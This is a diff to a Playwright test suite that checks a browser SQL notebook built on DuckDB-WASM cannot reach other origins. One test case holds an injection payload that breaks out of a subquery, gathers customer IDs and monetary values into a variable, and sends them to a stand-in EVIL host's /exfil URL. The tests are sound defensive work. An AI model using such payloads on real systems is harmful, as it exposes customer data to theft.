@@ -10,6 +10,7 @@ import { tmpdir } from 'node:os';
 import { join, relative } from 'node:path';
 import { docToFragment } from '../../src/engine/config/link';
 import { SECURITY_HEADERS } from '../../scripts/security-headers';
+import { engineReady } from './helpers/ready';
 
 // DuckDB-WASM starts in seconds on an idle machine, in a minute on a busy one.
 test.describe.configure({ timeout: 300_000 });
@@ -37,12 +38,9 @@ async function requestsReceived(page: Page): Promise<string[]> {
   return [...log];
 }
 
-/** The sample loaded in DuckDB (not only the build-time snapshot the page draws while DuckDB starts). */
 async function ready(page: Page, path = '/') {
   await page.goto(path);
-  await page.waitForFunction(() => performance.getEntriesByName('tierbook:sample-loaded').length > 0, null, { timeout: 180_000 });
-  await expect(page.getByTestId('customers')).toHaveText('6,000');
-  await expect(page.locator('main')).not.toHaveClass(/updating/);
+  await engineReady(page, '6,000');
 }
 
 /** Runs one text in a fresh SQL cell; its answer: 'rows: …' or the refusal shown. The cell is removed after. */
@@ -54,6 +52,9 @@ async function runSql(page: Page, text: string): Promise<string> {
   const table = cell.getByRole('table', { name: 'Query result' });
   const alert = cell.getByRole('alert');
   await expect(table.or(alert)).toBeVisible();
+  // The answer to this text (a new cell first answers its example query).
+  await expect(cell.getByRole('button', { name: 'Cancel' })).toBeDisabled();
+  await expect(cell.getByTestId('sql-stale')).toHaveCount(0);
   const answer = (await alert.count()) ? (await alert.textContent())! : `rows: ${await table.locator('tbody').textContent()}`;
   await page.getByRole('button', { name: 'Remove: SQL' }).click();
   return answer;
@@ -86,7 +87,7 @@ const SQL_ROUTES: [string, string[], RegExp | null][] = [
   ['SET VARIABLE with the data, then a URL from it', [
     `SELECT 1 AS a) t; SET VARIABLE leak = (SELECT string_agg(customer_id || ':' || monetary, ',') FROM (SELECT * FROM tb_metrics LIMIT 20)); SELECT * FROM (SELECT 1 AS a`,
     `SELECT * FROM read_text('${EVIL}/exfil?d=' || getvariable('leak'))`,
-  ], DISABLED],
+  ], null], // the first text is refused whole, so no variable is set: the second fails on NULL, no request
 ];
 
 test.describe('the SQL cell reaches no other origin', () => {
